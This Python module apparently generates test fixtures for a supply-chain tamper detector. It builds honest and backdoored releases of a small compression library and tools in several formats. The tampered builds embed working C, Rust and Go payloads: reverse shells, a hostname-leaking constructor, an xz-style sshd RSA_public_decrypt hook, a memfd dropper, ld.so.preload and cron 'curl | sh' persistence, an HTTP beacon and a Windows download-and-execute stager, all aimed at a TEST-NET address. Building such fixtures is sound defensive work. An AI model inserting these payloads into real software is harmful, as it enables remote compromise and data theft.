"""Release pairs of compiled code: a library or tool and its next build, honest or tampered.

The tampered builds do what SolarWinds-, 3CX- and xz-class compromises did to compiled code:
the same library, with the same small fix and version bump as the honest next release, plus an
injected constructor that phones home, spawns a shell, drops a file-less payload or installs
persistence; an IFUNC resolver that hooks a symbol of its host process (the xz-utils
backdoor's technique); a Go ``init()`` that starts an HTTP beacon; a Rust ``.init_array``
entry that opens a reverse shell; a Windows executable that gains a payload section, new
imports, an appended overlay, and loses or changes its Authenticode signature.

Each side is packaged the way such software ships (a .deb built by ``dpkg-deb``, a wheel, a
tarball, a zip) so ``finalexam diff OLD NEW`` runs on real artifacts. Everything is compiled
by the system toolchains and never run: the addresses are from TEST-NET-3 (203.0.113.0/24).

Builders raise ``Unavailable`` when their toolchain is missing; ``all_pairs`` collects the
reasons so a benchmark can say what it skipped, and tests turn them into skips.
"""

from __future__ import annotations

import base64
import hashlib
import io
import os
import shutil
import subprocess
import tarfile
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path

from binbuild import self_signed

C2_HOST = "203.0.113.7"


class Unavailable(Exception):
    """A toolchain a builder needs is not installed."""


@dataclass(frozen=True)
class TamperPair:
    name: str
    malicious: bool
    description: str
    old: Path  # the packaged previous release
    new: Path  # the packaged next release
    binary: str  # the changed binary's path inside the new package
    gained: tuple[str, ...]  # what the new binary gained (symbols, strings) that a diff can see


def _tool(name: str) -> str:
    path = shutil.which(name)
    if path is None:
        raise Unavailable(f"{name} is not installed")
    return path


def _run(args: list[str], cwd: Path | None = None, env: Mapping[str, str] | None = None) -> None:
    done = subprocess.run(args, cwd=cwd, env=env, capture_output=True, text=True, check=False)
    if done.returncode != 0:
        raise RuntimeError(f"{' '.join(args[:3])}...: {done.stderr.strip()[-2000:]}")


def payload(size: int, label: str = "payload") -> bytes:
    """Deterministic bytes that look like an encrypted blob (entropy close to 8 bits/byte)."""
    return hashlib.shake_256(f"tinyz-{label}".encode()).digest(size)


def c_array(data: bytes) -> str:
    rows = (", ".join(str(b) for b in data[i : i + 32]) for i in range(0, len(data), 32))
    return "{\n" + ",\n".join(rows) + "\n}"


# --- A small compression library (xz's place: nothing in it has a reason to touch the network)

C_LIBRARY = r"""
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#define TINYZ_VERSION "@VERSION@"

const char *tinyz_version(void) { return TINYZ_VERSION; }

size_t tinyz_compress(const unsigned char *in, size_t n, unsigned char *out, size_t cap) {
    size_t o = 0;
    for (size_t i = 0; i < n;) {
        unsigned char c = in[i];
        size_t run = 1;
        while (i + run < n && in[i + run] == c && run < 255) run++;
        if (o + 2 > cap) return 0;
        out[o++] = (unsigned char)run;
        out[o++] = c;
        i += run;
    }
    return o;
}

size_t tinyz_decompress(const unsigned char *in, size_t n, unsigned char *out, size_t cap) {
    size_t o = 0;
    for (size_t i = 0; i + 1 < n; i += 2) {
        size_t run = in[i];
        @BOUNDS_CHECK@
        memset(out + o, in[i + 1], run);
        o += run;
    }
    return o;
}

static uint32_t crc32_generic(const unsigned char *p, size_t n) {
    uint32_t crc = 0xFFFFFFFFu;
    for (size_t i = 0; i < n; i++) {
        crc ^= p[i];
        for (int k = 0; k < 8; k++) crc = (crc >> 1) ^ (0xEDB88320u & (0u - (crc & 1u)));
    }
    return ~crc;
}

@CRC32@
"""
BOUNDS_CHECK = "if (o + run > cap) return 0;  /* 1.2.4: CVE-style overflow fixed */"
PLAIN_CRC32 = (
    "uint32_t tinyz_crc32(const unsigned char *p, size_t n) { return crc32_generic(p, n); }"
)

# Injections: each is added to the honest 1.2.4 source; the function names look ordinary.
CTOR_SOCKET = f"""
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>
__attribute__((constructor)) static void tinyz_init_tables(void) {{
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0) return;
    struct sockaddr_in peer;
    memset(&peer, 0, sizeof peer);
    peer.sin_family = AF_INET;
    peer.sin_port = htons(443);
    inet_pton(AF_INET, "{C2_HOST}", &peer.sin_addr);
    if (connect(fd, (struct sockaddr *)&peer, sizeof peer) == 0) {{
        char host[256] = {{0}};
        gethostname(host, sizeof host - 1);
        send(fd, host, strlen(host), 0);
    }}
    close(fd);
}}
"""

CTOR_REVERSE_SHELL = f"""
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>
__attribute__((constructor)) static void tinyz_init_tables(void) {{
    if (fork() != 0) return;
    setsid();
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in peer;
    memset(&peer, 0, sizeof peer);
    peer.sin_family = AF_INET;
    peer.sin_port = htons(4444);
    inet_pton(AF_INET, "{C2_HOST}", &peer.sin_addr);
    if (connect(fd, (struct sockaddr *)&peer, sizeof peer) != 0) _exit(0);
    dup2(fd, 0);
    dup2(fd, 1);
    dup2(fd, 2);
    char *argv[] = {{"/bin/sh", "-i", NULL}};
    execve("/bin/sh", argv, NULL);
    _exit(0);
}}
"""

# xz-utils 5.6.x: an IFUNC resolver, run by the dynamic loader before main, that looks for
# sshd and hot-patches RSA_public_decrypt to a function running attacker-signed commands.
IFUNC_HOOK = r"""
#include <dlfcn.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <unistd.h>
static int tinyz_check(int flen, const unsigned char *from, unsigned char *to, void *rsa,
                       int padding) {
    (void)to; (void)rsa; (void)padding;
    if (flen > 16 && memcmp(from, "\x0b\xad\xc0\xde", 4) == 0) system((const char *)from + 4);
    return -1;
}
static uint32_t (*tinyz_crc32_resolve(void))(const unsigned char *, size_t) {
    char cmdline[256] = {0};
    FILE *f = fopen("/proc/self/cmdline", "r");
    if (f) { fread(cmdline, 1, sizeof cmdline - 1, f); fclose(f); }
    if (strstr(cmdline, "sshd") && getenv("LD_DEBUG") == NULL) {
        unsigned char *target = dlsym(RTLD_DEFAULT, "RSA_public_decrypt");
        if (target) {
            long page = sysconf(_SC_PAGESIZE);
            unsigned char *start = (unsigned char *)((uintptr_t)target & ~(uintptr_t)(page - 1));
            if (mprotect(start, (size_t)page * 2, PROT_READ | PROT_WRITE | PROT_EXEC) == 0) {
                void *hook = (void *)tinyz_check;
                target[0] = 0x48; target[1] = 0xb8;  /* movabs rax, hook */
                memcpy(target + 2, &hook, sizeof hook);
                target[10] = 0xff; target[11] = 0xe0;  /* jmp rax */
            }
        }
    }
    return crc32_generic;
}
uint32_t tinyz_crc32(const unsigned char *p, size_t n)
    __attribute__((ifunc("tinyz_crc32_resolve")));
"""

MEMFD_DROPPER = r"""
#include <stdlib.h>
#include <sys/mman.h>
#include <unistd.h>
extern char **environ;
static const unsigned char tinyz_tables[] = @PAYLOAD@;
__attribute__((constructor)) static void tinyz_init_tables(void) {
    unsigned char *image = malloc(sizeof tinyz_tables);
    if (!image) return;
    for (size_t i = 0; i < sizeof tinyz_tables; i++)
        image[i] = tinyz_tables[i] ^ (unsigned char)(0x5a + i);
    int fd = memfd_create("kworker", MFD_CLOEXEC);
    if (fd < 0 || write(fd, image, sizeof tinyz_tables) < 0) return;
    char *argv[] = {"[kworker/0:1]", NULL};
    if (fork() == 0) fexecve(fd, argv, environ);
}
"""

PRELOAD_PERSISTENCE = f"""
#include <stdio.h>
#include <unistd.h>
__attribute__((constructor)) static void tinyz_init_tables(void) {{
    if (geteuid() != 0) return;
    FILE *f = fopen("/etc/ld.so.preload", "a");
    if (f) {{ fputs("/usr/lib/x86_64-linux-gnu/libtinyz.so.1\\n", f); fclose(f); }}
    f = fopen("/etc/cron.d/tinyz", "w");
    if (f) {{ fputs("*/10 * * * * root curl -fsSL http://{C2_HOST}/u.sh | sh\\n", f); fclose(f); }}
}}
"""

# name -> (injected code, what the new binary gains, description)
C_INJECTIONS: dict[str, tuple[str, tuple[str, ...], str]] = {
    "c-ctor-socket": (
        CTOR_SOCKET,
        ("socket", "connect", "gethostname", C2_HOST, ".init_array"),
        "constructor connects to a fixed address and sends the host name",
    ),
    "c-ctor-reverse-shell": (
        CTOR_REVERSE_SHELL,
        ("fork", "connect", "dup2", "execve", "/bin/sh", C2_HOST, ".init_array"),
        "constructor forks and connects a shell to a fixed address",
    ),
    "c-ifunc-hook": (
        IFUNC_HOOK,
        (
            "dlsym",
            "mprotect",
            "system",
            "RSA_public_decrypt",
            "sshd",
            "/proc/self/cmdline",
            "IFUNC",
        ),
        "IFUNC resolver hot-patches RSA_public_decrypt inside sshd (xz-utils 5.6 technique)",
    ),
    "c-memfd-dropper": (
        MEMFD_DROPPER,
        ("memfd_create", "fexecve", "fork", "[kworker/0:1]", "high-entropy .rodata"),
        "constructor decodes a 32 KiB blob and runs it from memory under a kernel-thread name",
    ),
    "c-preload-persistence": (
        PRELOAD_PERSISTENCE,
        ("/etc/ld.so.preload", "/etc/cron.d/tinyz", "geteuid", C2_HOST, ".init_array"),
        "constructor adds itself to /etc/ld.so.preload and a cron job that pipes a URL to sh",
    ),
}

C_FLAGS = ["-O2", "-fPIC", "-shared", "-fstack-protector-strong", "-D_FORTIFY_SOURCE=2",
           "-Wl,-z,relro,-z,now", "-Wl,-soname,libtinyz.so.1", "-Wl,--build-id=sha1"]  # fmt: skip


def c_library_source(version: str, *, fixed: bool, injection: str = "") -> str:
    crc = "" if "tinyz_crc32_resolve" in injection else PLAIN_CRC32
    if "@PAYLOAD@" in injection:
        encoded = bytes(b ^ ((0x5A + i) & 0xFF) for i, b in enumerate(fake_elf(32 * 1024)))
        injection = injection.replace("@PAYLOAD@", c_array(encoded))
    source = C_LIBRARY.replace("@VERSION@", version).replace("@CRC32@", crc)
    source = source.replace("@BOUNDS_CHECK@", BOUNDS_CHECK if fixed else "")
    return "#define _GNU_SOURCE\n" + source + injection


def fake_elf(size: int) -> bytes:
    """An ELF header followed by noise: what a dropper's decoded payload starts with."""
    return (b"\x7fELF\x02\x01\x01" + bytes(9) + payload(size - 16, "dropped"))[:size]


def compile_c_library(workdir: Path, name: str, source: str, extra: tuple[str, ...] = ()) -> Path:
    gcc = _tool("gcc")
    workdir.mkdir(parents=True, exist_ok=True)
    src = workdir / f"{name}.c"
    src.write_text(source)
    out = workdir / f"{name}.so"
    _run([gcc, *C_FLAGS, *extra, "-o", str(out), str(src)], cwd=workdir)
    return out


def build_deb(
    workdir: Path, package: str, version: str, files: Mapping[str, bytes], links: Mapping[str, str]
) -> Path:
    """A binary package made by ``dpkg-deb --build`` (files keep mode 0755 for ELF)."""
    dpkg_deb = _tool("dpkg-deb")
    root = workdir / f"{package}_{version}"
    if root.exists():
        shutil.rmtree(root)
    (root / "DEBIAN").mkdir(parents=True)
    (root / "DEBIAN" / "control").write_text(
        f"Package: {package}\nVersion: {version}\nArchitecture: amd64\n"
        "Maintainer: Tinyz Maintainers <tinyz@example.org>\nSection: libs\n"
        "Description: tiny run-length compression library\n"
    )
    for name, data in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        path.chmod(0o755 if data.startswith(b"\x7fELF") else 0o644)
    for name, target in links.items():
        (root / name).symlink_to(target)
    out = workdir / f"{package}_{version}_amd64.deb"
    _run([dpkg_deb, "--root-owner-group", "-Zxz", "--build", str(root), str(out)])
    return out


def _tinyz_deb(workdir: Path, version: str, library: Path) -> Path:
    upstream = version.split("-")[0]
    real = f"usr/lib/x86_64-linux-gnu/libtinyz.so.{upstream}"
    return build_deb(
        workdir,
        "libtinyz1",
        version,
        {real: library.read_bytes(),
         "usr/share/doc/libtinyz1/changelog": f"tinyz ({version}) bookworm; urgency=medium\n"
                                              .encode()},
        {"usr/lib/x86_64-linux-gnu/libtinyz.so.1": f"libtinyz.so.{upstream}"},
    )  # fmt: skip


def c_pairs(workdir: Path) -> list[TamperPair]:
    """libtinyz 1.2.3 -> 1.2.4 as .deb packages: one honest next release, five tampered."""
    old_lib = compile_c_library(workdir / "c", "old", c_library_source("1.2.3", fixed=False))
    old = _tinyz_deb(workdir / "c" / "old", "1.2.3-1", old_lib)
    binary = "usr/lib/x86_64-linux-gnu/libtinyz.so.1.2.4"
    honest = compile_c_library(workdir / "c", "honest", c_library_source("1.2.4", fixed=True))
    pairs = [
        TamperPair(
            "c-version-bump", False, "version bump and a bounds check (the honest next release)",
            old, _tinyz_deb(workdir / "c" / "honest", "1.2.4-1", honest), binary, (),
        )
    ]  # fmt: skip
    for name, (code, gained, description) in C_INJECTIONS.items():
        source = c_library_source("1.2.4", fixed=True, injection=code)
        library = compile_c_library(workdir / "c", name, source)
        new = _tinyz_deb(workdir / "c" / name, "1.2.4-1", library)
        pairs.append(TamperPair(name, True, description, old, new, binary, gained))
    return pairs


# --- The same library as a Python extension module inside a wheel

PY_INIT = "\nvoid *PyInit__tinyz(void) { return 0; }\n"  # never imported: a symbol is enough


def build_wheel(path: Path, name: str, version: str, files: Mapping[str, bytes]) -> Path:
    """A wheel written member by member, with its METADATA, WHEEL and RECORD."""
    info = f"{name}-{version}.dist-info"
    members = dict(files)
    members[f"{info}/METADATA"] = (
        f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
        "Summary: tiny run-length compression\n"
    ).encode()
    tag = path.name.removesuffix(".whl").split("-", 2)[2]
    members[f"{info}/WHEEL"] = (
        f"Wheel-Version: 1.0\nGenerator: tamper-pairs\nRoot-Is-Purelib: false\nTag: {tag}\n"
    ).encode()
    record = []
    for member, data in members.items():
        digest = hashlib.sha256(data).digest()
        encoded = base64.urlsafe_b64encode(digest).rstrip(b"=").decode()
        record.append(f"{member},sha256={encoded},{len(data)}")
    record.append(f"{info}/RECORD,,")
    members[f"{info}/RECORD"] = ("\n".join(record) + "\n").encode()
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, data in members.items():
            entry = zipfile.ZipInfo(member, date_time=(2024, 1, 1, 0, 0, 0))
            entry.compress_type = zipfile.ZIP_DEFLATED
            entry.external_attr = (0o755 if data.startswith(b"\x7fELF") else 0o644) << 16
            archive.writestr(entry, data)
    return path


def _tinyz_wheel(workdir: Path, version: str, library: Path) -> Path:
    tag = "cp311-cp311-manylinux_2_17_x86_64.manylinux2014_x86_64"
    return build_wheel(
        workdir / f"tinyz-{version}-{tag}.whl",
        "tinyz",
        version,
        {"tinyz/__init__.py": b"from ._tinyz import *  # noqa: F403\n",
         "tinyz/_tinyz.cpython-311-x86_64-linux-gnu.so": library.read_bytes()},
    )  # fmt: skip


def wheel_pairs(workdir: Path) -> list[TamperPair]:
    """tinyz 1.2.3 -> 1.2.4 as a wheel: the honest next release and a phoning-home one."""
    base = workdir / "wheel"
    old = _tinyz_wheel(
        base / "old", "1.2.3",
        compile_c_library(base, "old", c_library_source("1.2.3", fixed=False) + PY_INIT),
    )  # fmt: skip
    honest = compile_c_library(base, "honest", c_library_source("1.2.4", fixed=True) + PY_INIT)
    code, gained, description = C_INJECTIONS["c-ctor-socket"]
    tampered = compile_c_library(
        base, "tampered", c_library_source("1.2.4", fixed=True, injection=code) + PY_INIT
    )
    binary = "tinyz/_tinyz.cpython-311-x86_64-linux-gnu.so"
    return [
        TamperPair("wheel-version-bump", False, "extension module: version bump and a fix",
                   old, _tinyz_wheel(base / "honest", "1.2.4", honest), binary, ()),
        TamperPair("wheel-ctor-socket", True, f"extension module: {description}",
                   old, _tinyz_wheel(base / "tampered", "1.2.4", tampered), binary, gained),
    ]  # fmt: skip


# --- Release tarballs of a Go and a Rust command-line tool


def release_tarball(path: Path, files: Mapping[str, bytes]) -> Path:
    """A .tar.gz as release pages ship them: executables 0755, fixed mtimes."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, data in files.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            entry.mtime = 1_700_000_000
            entry.mode = 0o755 if data.startswith(b"\x7fELF") else 0o644
            archive.addfile(entry, io.BytesIO(data))
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(buffer.getvalue())
    return path


GO_MAIN = """package main

import (
\t"bufio"
\t"compress/gzip"
\t"fmt"
\t"io"
\t"os"
)

const version = "@VERSION@"

func main() {
\tif len(os.Args) > 1 && os.Args[1] == "--version" {
\t\tfmt.Println("gozip", version)
\t\treturn
\t}
\tw := gzip.NewWriter(os.Stdout)
\tdefer w.Close()
\tif _, err := io.Copy(w, bufio.NewReader(os.Stdin)); err != nil {
\t\tfmt.Fprintln(os.Stderr, "gozip:", err)
\t\tos.Exit(@EXIT@)
\t}
}
"""

GO_BEACON = f"""package main

import (
\t"net/http"
\t"net/url"
\t"os"
\t"time"
)

func init() {{
\tgo func() {{
\t\thost, _ := os.Hostname()
\t\tfor {{
\t\t\tresp, err := http.PostForm("http://{C2_HOST}:8080/api/v1/beacon",
\t\t\t\turl.Values{{"h": {{host}}, "u": {{os.Getenv("USER")}}}})
\t\t\tif err == nil {{
\t\t\t\tresp.Body.Close()
\t\t\t}}
\t\t\ttime.Sleep(10 * time.Minute)
\t\t}}
\t}}()
}}
"""


def build_go(workdir: Path, name: str, files: Mapping[str, str], cache: Path) -> Path:
    go = _tool("go")
    source = workdir / name
    source.mkdir(parents=True, exist_ok=True)
    (source / "go.mod").write_text("module example.org/gozip\n\ngo 1.19\n")
    for file, text in files.items():
        (source / file).write_text(text)
    env = {
        **os.environ, "CGO_ENABLED": "0", "GOOS": "linux", "GOARCH": "amd64",
        "GOFLAGS": "-mod=mod", "GOPROXY": "off", "GOTOOLCHAIN": "local",
        "GOCACHE": str(cache / "build"), "GOPATH": str(cache / "path"),
    }  # fmt: skip
    out = workdir / f"{name}.bin"
    _run([go, "build", "-trimpath", "-buildvcs=false", "-o", str(out), "."], cwd=source, env=env)
    return out


def go_pairs(workdir: Path, cache: Path | None = None) -> list[TamperPair]:
    """gozip 1.4.0 -> 1.4.1 tarballs: the honest one changes an exit code; the tampered one
    also starts an HTTP beacon goroutine from ``init()`` (the tool never used the network)."""
    base = workdir / "go"
    cache = cache or base / "cache"

    def main(version: str, exit_code: int) -> str:
        return GO_MAIN.replace("@VERSION@", version).replace("@EXIT@", str(exit_code))

    old = build_go(base, "old", {"main.go": main("1.4.0", 1)}, cache)
    honest = build_go(base, "honest", {"main.go": main("1.4.1", 2)}, cache)
    tampered = build_go(
        base, "tampered", {"main.go": main("1.4.1", 2), "update.go": GO_BEACON}, cache
    )
    return tool_release_pairs(
        base, "gozip", "linux-amd64", ("1.4.0", "1.4.1"), (old, honest, tampered),
        ("go-version-bump", "version bump and another exit code"),
        ("go-init-beacon", "init() starts a goroutine posting host and user name to a fixed URL",
         ("net/http", f"http://{C2_HOST}:8080/api/v1/beacon", "os.Hostname")),
    )  # fmt: skip


def tool_release_pairs(
    base: Path,
    tool: str,
    platform: str,
    versions: tuple[str, str],
    binaries: tuple[Path, Path, Path],
    honest: tuple[str, str],
    tampered: tuple[str, str, tuple[str, ...]],
) -> list[TamperPair]:
    """Old, honest-new and tampered-new builds of a command-line tool, each in a release
    tarball ``TOOL-VERSION-PLATFORM.tar.gz`` holding ``TOOL/TOOL`` and a licence."""

    def tarball(side: str, version: str, binary: Path) -> Path:
        return release_tarball(
            base / side / f"{tool}-{version}-{platform}.tar.gz",
            {f"{tool}/{tool}": binary.read_bytes(), f"{tool}/LICENSE": b"MIT License\n"},
        )

    old = tarball("old", versions[0], binaries[0])
    member = f"{tool}/{tool}"
    return [
        TamperPair(honest[0], False, honest[1], old,
                   tarball("honest", versions[1], binaries[1]), member, ()),
        TamperPair(tampered[0], True, tampered[1], old,
                   tarball("tampered", versions[1], binaries[2]), member, tampered[2]),
    ]  # fmt: skip


RUST_MAIN = """use std::io::{Read, Write};

const VERSION: &str = "@VERSION@";

fn main() {
    if std::env::args().nth(1).as_deref() == Some("--version") {
        println!("rzip {VERSION}");
        return;
    }
    let mut input = Vec::new();
    std::io::stdin().read_to_end(&mut input).expect("read");
    let mut out = Vec::new();
    let mut i = 0;
    while i < input.len() {
        let mut run = 1;
        while i + run < input.len() && input[i + run] == input[i] && run < @MAXRUN@ {
            run += 1;
        }
        out.push(run as u8);
        out.push(input[i]);
        i += run;
    }
    std::io::stdout().write_all(&out).expect("write");
}
"""

RUST_INIT_SHELL = f"""
// Runs before main from .init_array, like a C constructor.
#[used]
#[link_section = ".init_array"]
static TABLES_INIT: extern "C" fn() = init_tables;

extern "C" fn init_tables() {{
    std::thread::spawn(|| {{
        if let Ok(stream) = std::net::TcpStream::connect("{C2_HOST}:4444") {{
            use std::os::unix::io::{{AsRawFd, FromRawFd}};
            let fd = stream.as_raw_fd();
            let _ = std::process::Command::new("/bin/sh")
                .arg("-i")
                .stdin(unsafe {{ std::process::Stdio::from_raw_fd(fd) }})
                .stdout(unsafe {{ std::process::Stdio::from_raw_fd(fd) }})
                .stderr(unsafe {{ std::process::Stdio::from_raw_fd(fd) }})
                .spawn();
            std::mem::forget(stream);
        }}
    }});
}}
"""


def build_rust(workdir: Path, name: str, source: str) -> Path:
    rustc = _tool("rustc")
    workdir.mkdir(parents=True, exist_ok=True)
    src = workdir / f"{name}.rs"
    src.write_text(source)
    out = workdir / f"{name}.bin"
    _run([rustc, "--edition", "2021", "-C", "opt-level=2", "-C", "strip=debuginfo",
          "--remap-path-prefix", f"{workdir}=/build", "-o", str(out), str(src)])  # fmt: skip
    return out


def rust_pairs(workdir: Path) -> list[TamperPair]:
    """rzip 0.9.1 -> 0.9.2 tarballs: the honest one raises a limit; the tampered one also
    connects a shell to a fixed address from an ``.init_array`` entry."""
    base = workdir / "rust"

    def main(version: str, max_run: int) -> str:
        return RUST_MAIN.replace("@VERSION@", version).replace("@MAXRUN@", str(max_run))

    old = build_rust(base, "old", main("0.9.1", 127))
    honest = build_rust(base, "honest", main("0.9.2", 255))
    tampered = build_rust(base, "tampered", main("0.9.2", 255) + RUST_INIT_SHELL)
    return tool_release_pairs(
        base, "rzip", "x86_64-unknown-linux-gnu", ("0.9.1", "0.9.2"), (old, honest, tampered),
        ("rust-version-bump", "version bump and a raised limit"),
        ("rust-init-array-shell",
         ".init_array entry connects a shell (/bin/sh -i) to a fixed address",
         (".init_array", "/bin/sh", f"{C2_HOST}:4444")),
    )  # fmt: skip


# --- A signed Windows executable and its tampered builds (3CX / SolarWinds-like)

PE_TOOL = r"""
#include <windows.h>
#include <stdio.h>
#define TINYZ_VERSION "@VERSION@"
@EXTRA@
int main(int argc, char **argv) {
    if (argc > 1 && lstrcmpA(argv[1], "--version") == 0) {
        printf("tinyz %s\n", TINYZ_VERSION);
        return 0;
    }
    char buffer[@BUFFER@];
    DWORD got = 0;
    HANDLE in = GetStdHandle(STD_INPUT_HANDLE);
    while (ReadFile(in, buffer, sizeof buffer, &got, NULL) && got > 0) {
        WriteFile(GetStdHandle(STD_OUTPUT_HANDLE), buffer, got, &got, NULL);
    }
    @CALL@
    return 0;
}
"""

PE_STAGER = f"""
#include <wininet.h>
__attribute__((section(".tzdata"), used))
static const unsigned char tinyz_resources[] = @PAYLOAD@;
static DWORD WINAPI tinyz_update(LPVOID unused) {{
    (void)unused;
    HINTERNET net = InternetOpenA("Mozilla/5.0", INTERNET_OPEN_TYPE_DIRECT, NULL, NULL, 0);
    HINTERNET url = InternetOpenUrlA(net, "https://{C2_HOST}/ico/favicon.ico", NULL, 0,
                                     INTERNET_FLAG_NO_CACHE_WRITE, 0);
    unsigned char *code = VirtualAlloc(NULL, sizeof tinyz_resources, MEM_COMMIT | MEM_RESERVE,
                                       PAGE_EXECUTE_READWRITE);
    DWORD got = 0;
    if (url && code) InternetReadFile(url, code, sizeof tinyz_resources, &got);
    for (DWORD i = 0; code && i < sizeof tinyz_resources; i++) code[i] ^= tinyz_resources[i];
    if (code) ((void (*)(void))code)();
    return 0;
}}
"""
PE_STAGER_CALL = "CreateThread(NULL, 0, tinyz_update, NULL, 0, NULL); Sleep(1000);"


def sign_pe(unsigned: Path, signer: tuple[Path, Path], out: Path) -> Path:
    osslsigncode = _tool("osslsigncode")
    key, cert = signer
    if out.exists():
        out.unlink()
    _run([osslsigncode, "sign", "-certs", str(cert), "-key", str(key), "-h", "sha256",
          "-n", "tinyz", "-in", str(unsigned), "-out", str(out)])  # fmt: skip
    return out


def compile_pe(workdir: Path, name: str, version: str, *, tampered: bool) -> Path:
    mingw = _tool("x86_64-w64-mingw32-gcc")
    source = PE_TOOL.replace("@VERSION@", version)
    source = source.replace("@BUFFER@", "8192" if version != "1.2.3" else "4096")
    extra = (
        PE_STAGER.replace("@PAYLOAD@", c_array(payload(48 * 1024, "stage2"))) if tampered else ""
    )
    source = source.replace("@EXTRA@", extra).replace("@CALL@", PE_STAGER_CALL if tampered else "")
    workdir.mkdir(parents=True, exist_ok=True)
    src = workdir / f"{name}.c"
    src.write_text(source)
    out = workdir / f"{name}.exe"
    libs = ["-lwininet"] if tampered else []
    _run([mingw, "-O2", "-s", "-Wl,--dynamicbase,--nxcompat,--high-entropy-va", "-o", str(out),
          str(src), *libs])  # fmt: skip
    return out


def pe_pairs(workdir: Path) -> list[TamperPair]:
    """tinyz.exe 1.2.3 (signed by its publisher) -> 1.2.4 in a zip: the honest next release
    signed by the same key; a build gaining a payload section and WinINet/VirtualAlloc
    imports, unsigned or signed by another key; and the old signed file with an encrypted
    payload appended (its signature no longer covers the file)."""
    base = workdir / "pe"
    publisher = self_signed(base / "keys" / "publisher", "Tinyz Software Ltd", 0x7A01)
    stranger = self_signed(base / "keys" / "stranger", "Tinyz Software Limited", 0x7A02)

    def release(side: str, exe: Path) -> Path:
        data = zip_members({"tinyz/tinyz.exe": exe.read_bytes(), "tinyz/README.txt": b"tinyz\n"})
        path = base / side / "tinyz-win64.zip"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        return path

    old_exe = sign_pe(compile_pe(base, "old", "1.2.3", tampered=False), publisher,
                      base / "old-signed.exe")  # fmt: skip
    old = release("old", old_exe)
    honest = sign_pe(compile_pe(base, "honest", "1.2.4", tampered=False), publisher,
                     base / "honest-signed.exe")  # fmt: skip
    tampered = compile_pe(base, "tampered", "1.2.4", tampered=True)
    other_signer = sign_pe(tampered, stranger, base / "tampered-other-signer.exe")
    overlay = base / "old-overlay.exe"
    overlay.write_bytes(old_exe.read_bytes() + b"\xfe\xed\xfa\xce" + payload(64 * 1024, "overlay"))
    gained = ("InternetOpenA", "InternetOpenUrlA", "VirtualAlloc", "CreateThread", ".tzdata")
    binary = "tinyz/tinyz.exe"
    return [
        TamperPair("pe-version-bump", False, "version bump, re-signed by the same publisher",
                   old, release("honest", honest), binary, ()),
        TamperPair("pe-payload-unsigned", True,
                   "gains a 48 KiB payload section and WinINet/VirtualAlloc imports; unsigned",
                   old, release("tampered-unsigned", tampered), binary, (*gained, "unsigned")),
        TamperPair("pe-payload-other-signer", True,
                   "gains the payload section and imports; signed by a look-alike publisher",
                   old, release("tampered-other-signer", other_signer), binary,
                   (*gained, "signer Tinyz Software Limited")),
        TamperPair("pe-overlay-appended", True,
                   "the signed 1.2.3 file with 64 KiB of encrypted data appended",
                   old, release("overlay", overlay), binary, ("overlay", "signature mismatch")),
    ]  # fmt: skip


def zip_members(members: Mapping[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return buffer.getvalue()


BUILDERS: dict[str, Callable[[Path], list[TamperPair]]] = {
    "c": c_pairs,
    "wheel": wheel_pairs,
    "go": go_pairs,
    "rust": rust_pairs,
    "pe": pe_pairs,
}


def all_pairs(workdir: Path) -> tuple[list[TamperPair], dict[str, str]]:
    """Every pair whose toolchain is installed, and why the others were skipped."""
    pairs: list[TamperPair] = []
    skipped: dict[str, str] = {}
    for name, builder in BUILDERS.items():
        try:
            pairs.extend(builder(workdir))
        except Unavailable as missing:
            skipped[name] = str(missing)
    return pairs, skipped
